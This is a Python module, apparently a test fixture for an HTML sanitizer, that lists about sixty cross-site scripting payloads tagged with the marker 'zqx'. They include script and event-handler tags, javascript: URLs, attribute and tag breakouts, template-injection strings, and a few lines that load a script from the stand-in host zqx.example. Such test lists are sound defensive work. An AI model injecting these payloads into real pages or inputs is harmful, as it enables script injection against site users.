"""Sixty ways to smuggle something alive into a page. Each carries the mark by which it would be known."""

from __future__ import annotations

MARK = "zqx"
_ELEMENTS = [
    "<script>zqx()</script>", "<ScRiPt>zqx()</sCrIpT>", "<script src=//zqx.example></script>", "<script/zqx>alert(1)</script>",
    "<img src=x onerror=zqx()>", "<img/src=`x`/onerror=zqx()>", "<IMG SRC=x OnErRoR=zqx()>", "<img src=x:zqx onerror=1>",
    "<svg onload=zqx()>", "<svg/onload=zqx()>", "<svg><script>zqx()</script></svg>", "<svg><a href=javascript:zqx()>x</a>",
    "<math><mi onclick=zqx()>x</mi></math>", "<body onload=zqx()>", "<iframe src=javascript:zqx()></iframe>",
    "<iframe srcdoc='<script>zqx()</script>'></iframe>", "<object data=javascript:zqx()></object>", "<embed src=zqx>",
    "<a href=javascript:zqx()>x</a>", "<a href='JaVaScRiPt:zqx()'>x</a>", "<a href=' javascript:zqx()'>x</a>",
    "<a href=data:text/html,zqx>x</a>", "<a href=vbscript:zqx>x</a>", "<details open ontoggle=zqx()>x</details>",
    "<video src=x onerror=zqx()></video>", "<audio src=x onerror=zqx()>", "<input autofocus onfocus=zqx()>",
    "<select autofocus onfocus=zqx()>", "<textarea autofocus onfocus=zqx()>", "<marquee onstart=zqx()>x</marquee>",
    "<p style=background:url(//zqx)>x</p>", "<style>@import'//zqx';</style>", "<link rel=stylesheet href=zqx onload=1>",
    "<base href=//zqx.example/>", "<form action=javascript:zqx()><button>x</button></form>",
    "<button formaction=javascript:zqx()>x</button>", "<isindex zqx=1 onclick=1>", "<zqx onclick=1>x</zqx>",
    "<template><script>zqx()</script></template><b zqx=1>", "<noscript><p title='</noscript><img src=x onerror=zqx()>'>",
]  # fmt: skip
_BREAKING_OUT = [
    '"><script>zqx()</script>', "'><script>zqx()</script>", '" onmouseover=zqx() x="', "' onmouseover=zqx() x='",
    '"><img src=x onerror=zqx()>', "'><img src=x onerror=zqx()>", "</textarea><script>zqx()</script>",
    "</title><script>zqx()</script>", "</script><script>zqx()</script>", "--><script>zqx()</script>",
    "]]><script>zqx()</script>", "</option></select><img src=x onerror=zqx()>", "</td></tr></table><svg onload=zqx()>",
    "<!--><img src=x onerror=zqx()>-->", "\x00<script>zqx()</script>", "<<script>zqx()</script>", "<img src=x onerror\n=zqx()>",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}<b zqx=1>", "{% raw %}<script>zqx()</script>", "[x](javascript:zqx())<i onclick=zqx()>",
]  # fmt: skip
PAYLOADS = [p.replace("\x00", "\N{SYMBOL FOR NULL}") for p in [*_ELEMENTS, *_BREAKING_OUT, *_TEMPLATES]]
